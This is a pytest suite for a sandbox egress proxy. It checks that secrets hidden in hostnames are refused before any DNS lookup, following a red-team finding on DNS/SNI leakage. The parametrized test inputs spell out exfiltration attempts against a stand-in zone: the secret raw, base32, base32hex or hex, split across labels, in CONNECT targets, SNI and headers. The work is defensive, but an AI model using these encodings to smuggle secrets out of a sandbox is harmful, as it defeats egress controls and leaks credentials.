"""A real value in a name the proxy would resolve: the CONNECT target, or the TLS server name (SNI)
of a captured connection. The proxy dials an allowed destination as soon as it is named, before
any request (so that the first request does not wait for the upstream's handshake). Under a
wildcard rule (``*.rt72.example.net``), ``<real value>.rt72.example.net`` is an allowed name: that
dial put the value in a DNS query, which leaves the pod for the cluster's resolver and the
domain's nameservers, and in the SNI of the upstream handshake. No request was needed: the
requests inside were refused for the value in their ``Host``, too late.

Now a name holding a real value (in any form the outbound guard knows, read in both cases: a
name's case means nothing) is refused where it is named, before any lookup: the CONNECT is
answered 403 ``secret_value_outbound``, the handshake whose SNI holds it fails; each is recorded
and counted as ``secret_value_outbound``, naming the secret, as the same name is in a plain-HTTP
request's ``Host``.

Red team 72 found the case part: base32 and base32hex are forms the guard knows as their encoders
write them, upper-cased; a name holds them lower-cased just as well (a nameserver decodes either),
so a lower-cased one was looked up. And an upper-cased one, refused, was recorded with the host
the proxy had lower-cased, which the redaction then did not read: the audit record and the log
line held the value's base32. Names are now read upper-cased too, and so are the texts redacted.
"""

from __future__ import annotations

import base64
import contextlib
import secrets
import socket
import ssl
import subprocess
import time
from collections.abc import Callable, Iterator

import pytest

from tests.conftest import needs_root
from tests.support.listeners import DnsSink
from tests.support.proxyproc import ProxyProcess

pytestmark = needs_root

ZONE = "rt72.example.net"
PLACEHOLDER, ENV = f"rt72-PH-{secrets.token_hex(4)}", "SG_TEST_RT72"
REAL = "rt72Real" + secrets.token_hex(12)  # mixed case: a name carries it lowercased
POLICY = f"""
apiVersion: sandgate.dev/v1alpha1
kind: EgressPolicy
metadata: {{name: rt72-names}}
spec:
  allow:
    - host: "*.{ZONE}"
  secrets:
    - name: rt72
      placeholder: {PLACEHOLDER}
      source: {{env: {ENV}}}
      hosts: [api.{ZONE}]
"""
B32 = base64.b32encode(REAL.encode()).decode().rstrip("=")  # 52 characters: one label
B32HEX = base64.b32hexencode(REAL.encode()).decode().rstrip("=")
HEX = REAL.encode().hex()  # 64 characters: too long for one label
BLOCKED = ("sandgate_secret_blocked_total", {"secret": "rt72", "reason": "secret_value_outbound"})
CAPTURED = "127.0.0.72"  # connections to its port 443 are REDIRECTed to the transparent proxy


def _records_after(p: ProxyProcess, n: int, want: int = 1) -> list[dict[str, object]]:
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and len(p.audit()) < n + want:
        time.sleep(0.05)
    time.sleep(0.2)  # (nothing more comes)
    return p.audit()[n:]


def _asked_since(dns: DnsSink, mark: int, label: str) -> bool:
    return any(label.encode() in q for q in dns.queries[mark:])


def _holds_a_form(text: str) -> bool:
    """Whether text holds the value, or its base32, base32hex or hex, in any case, also once its
    dots and hyphens are taken out (a name's pieces)."""
    lower = text.lower()
    joined = lower.replace(".", "").replace("-", "")
    return any(form.lower() in t for t in (lower, joined) for form in (REAL, B32, B32HEX, HEX))


def _nothing_written(p: ProxyProcess, records: list[dict[str, object]]) -> None:
    assert not _holds_a_form(str(records)), f"a form of the value in the audit log: {records}"
    assert not _holds_a_form(p.stderr()), "a form of the value on the proxy's stderr"


def _said(records: list[dict[str, object]]) -> list[tuple[object, ...]]:
    return [(r["decision"], r["reason"], r["secret"]) for r in records]


def _connect(p: ProxyProcess, authority: str, *headers: str) -> bytes:
    """The answer to a CONNECT, the tunnel held open for a second (as an attacker would hold it:
    closed at once, a dial under way is cancelled before it asks anything)."""
    out = b""
    with socket.create_connection(("127.0.0.1", p.port), timeout=1) as s:
        s.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n{''.join(headers)}\r\n".encode())
        with contextlib.suppress(TimeoutError, ConnectionResetError):
            while chunk := s.recv(4096):
                out += chunk
    return out


@pytest.mark.parametrize(
    "name",
    [
        f"{REAL.lower()}.{ZONE}",
        f"{REAL}.{ZONE}",
        f"x-{REAL.lower()}-y.{ZONE}",
        f"{REAL.lower()}.deep.{ZONE}",
        f"{B32}.{ZONE}",
        f"{B32.lower()}.{ZONE}",
        f"{B32HEX.lower()}.{ZONE}",
        f"{HEX[:32]}.{HEX[32:]}.{ZONE}",
        "-".join(REAL[i : i + 4] for i in range(0, len(REAL), 4)).lower() + f".{ZONE}",
    ],
    ids=[
        "lowercase",
        "as-is",
        "inside-a-label",
        "deeper",
        "base32",
        "base32-lowercase",
        "base32hex-lowercase",
        "hex-over-two-labels",
        "hyphens",
    ],
)
def test_a_connect_naming_a_real_value_is_refused_before_any_lookup(
    make_proxy: Callable[..., ProxyProcess], dns: DnsSink, name: str
) -> None:
    p = make_proxy(POLICY, env={ENV: REAL})
    before, n, asked = p.metric(BLOCKED[0], **BLOCKED[1]), len(p.audit()), dns.count
    answer = _connect(p, f"{name}:443")
    records = _records_after(p, n)
    assert not _asked_since(dns, asked, name.split(".")[0].lower()), "the real value went out in a DNS query"
    assert answer.startswith(b"HTTP/1.1 403") and b"secret_value_outbound" in answer, answer
    assert _said(records) == [("denied", "secret_value_outbound", "rt72")], records
    _nothing_written(p, records)
    assert p.metric(BLOCKED[0], **BLOCKED[1]) - before == 1


def test_a_connect_carrying_a_real_value_in_a_header_is_refused(make_proxy: Callable[..., ProxyProcess]) -> None:
    """The CONNECT's own head is never forwarded, but it is a request holding a real value (in
    Basic credentials here): refused and counted as the same value in any other request."""
    p = make_proxy(POLICY, env={ENV: REAL})
    n = len(p.audit())
    basic = base64.b64encode(f"agent:{REAL}".encode()).decode()
    answer = _connect(p, f"api.{ZONE}:443", f"Proxy-Authorization: Basic {basic}\r\n")
    assert answer.startswith(b"HTTP/1.1 403") and b"secret_value_outbound" in answer, answer
    assert _said(_records_after(p, n)) == [("denied", "secret_value_outbound", "rt72")]


def test_control_an_allowed_name_without_a_value_is_tunnelled(
    make_proxy: Callable[..., ProxyProcess], dns: DnsSink
) -> None:
    p = make_proxy(POLICY, env={ENV: REAL})
    asked = dns.count
    assert _connect(p, f"rt72other.{ZONE}:443").startswith(b"HTTP/1.1 200")
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and dns.count == asked:
        time.sleep(0.05)
    assert _asked_since(dns, asked, "rt72other"), (
        "the control: an allowed name is looked up at once (the dial after CONNECT)"
    )


@pytest.fixture
def captured(make_proxy: Callable[..., ProxyProcess]) -> Iterator[ProxyProcess]:
    """A transparent proxy, with this test's connections to CAPTURED:443 REDIRECTed to it (in
    this session's own network namespace; the rule is removed after)."""
    p = make_proxy(POLICY, env={ENV: REAL}, mode="transparent")
    rule = ["OUTPUT", "-d", CAPTURED, "-p", "tcp", "--dport", "443", "-j", "REDIRECT", "--to-ports", str(p.port)]
    subprocess.run(["iptables", "-t", "nat", "-A", *rule], check=True, capture_output=True, timeout=30)
    try:
        yield p
    finally:
        subprocess.run(["iptables", "-t", "nat", "-D", *rule], check=True, capture_output=True, timeout=30)


def _handshake(p: ProxyProcess, sni: str) -> ssl.SSLSocket | None:
    ctx = ssl.create_default_context(cafile=str(p.ca))
    ctx.check_hostname = False
    s = socket.create_connection((CAPTURED, 443), timeout=5)
    try:
        return ctx.wrap_socket(s, server_hostname=sni)
    except (ssl.SSLError, OSError):
        s.close()
        return None


@pytest.mark.parametrize("label", [REAL.lower(), B32.lower()], ids=["lowercase", "base32-lowercase"])
def test_a_server_name_holding_a_real_value_is_refused_before_any_lookup(
    captured: ProxyProcess, dns: DnsSink, label: str
) -> None:
    p = captured
    before, n, asked = p.metric(BLOCKED[0], **BLOCKED[1]), len(p.audit()), dns.count
    s = _handshake(p, f"{label}.{ZONE}")
    if s is not None:
        with contextlib.suppress(OSError):
            s.recv(1)
        s.close()
    records = _records_after(p, n)
    assert not _asked_since(dns, asked, label), "the real value went out in a DNS query"
    assert s is None, "the handshake naming a real value completed"
    assert _said(records) == [("denied", "secret_value_outbound", "rt72")], records
    _nothing_written(p, records)
    assert p.metric(BLOCKED[0], **BLOCKED[1]) - before == 1


def test_control_a_captured_server_name_without_a_value_is_dialled(captured: ProxyProcess, dns: DnsSink) -> None:
    p = captured
    asked = dns.count
    s = _handshake(p, f"rt72another.{ZONE}")
    assert s is not None, "the control: a captured handshake naming an allowed host completes"
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and dns.count == asked:
        time.sleep(0.05)
    s.close()
    assert _asked_since(dns, asked, "rt72another"), "the control: the captured server name is looked up at once"


def test_a_request_refused_for_its_authority_is_refused_for_the_value_it_holds(
    make_proxy: Callable[..., ProxyProcess],
) -> None:
    """An absolute target and a Host that disagree (authority_mismatch) in a request that also holds
    a real value: refused for the value, the worse of the two, as a request to a host outside the
    allowlist is."""
    p = make_proxy(POLICY, env={ENV: REAL})
    before, n = p.metric(BLOCKED[0], **BLOCKED[1]), len(p.audit())
    with socket.create_connection(("127.0.0.1", p.port), timeout=5) as s:
        s.sendall(f"GET http://api.{ZONE}/ HTTP/1.1\r\nHost: other.{ZONE}\r\nX-Key: {REAL}\r\n\r\n".encode())
        answer = s.recv(4096)
    assert answer.startswith(b"HTTP/1.1 403") and b"secret_value_outbound" in answer, answer
    assert _said(_records_after(p, n)) == [("denied", "secret_value_outbound", "rt72")]
    assert p.metric(BLOCKED[0], **BLOCKED[1]) - before == 1


@pytest.mark.parametrize("label", [B32, B32.lower()], ids=["base32", "base32-lowercase"])
def test_a_plain_request_to_a_name_holding_a_real_value_is_refused_before_any_lookup(
    make_proxy: Callable[..., ProxyProcess], dns: DnsSink, label: str
) -> None:
    p = make_proxy(POLICY, env={ENV: REAL})
    n, asked = len(p.audit()), dns.count
    name = f"{label}.{ZONE}"
    with socket.create_connection(("127.0.0.1", p.port), timeout=5) as s:
        s.sendall(f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
        answer = s.recv(4096)
    records = _records_after(p, n)
    assert not _asked_since(dns, asked, label.lower()), "the real value went out in a DNS query"
    assert answer.startswith(b"HTTP/1.1 403") and b"secret_value_outbound" in answer, answer
    assert _said(records) == [("denied", "secret_value_outbound", "rt72")], records
    _nothing_written(p, records)


def test_a_malformed_request_to_a_name_holding_a_real_value_is_refused_for_the_value(
    make_proxy: Callable[..., ProxyProcess], dns: DnsSink
) -> None:
    """Two credential headers make the request malformed; its host holds the value's hex cut over
    two labels. Refused for the value (the worse), and its record's host is redacted whole."""
    p = make_proxy(POLICY, env={ENV: REAL})
    n = len(p.audit())
    name = f"{HEX[:32]}.{HEX[32:]}.{ZONE}"
    twice = "Authorization: Bearer a\r\nAuthorization: Bearer b\r\n"
    with socket.create_connection(("127.0.0.1", p.port), timeout=5) as s:
        s.sendall(f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\n{twice}\r\n".encode())
        answer = s.recv(4096)
    records = _records_after(p, n)
    assert answer.startswith(b"HTTP/1.1 403") and b"secret_value_outbound" in answer, answer
    assert [(r["reason"], r["host"]) for r in records] == [("secret_value_outbound", "[redacted]")], records
    _nothing_written(p, records)
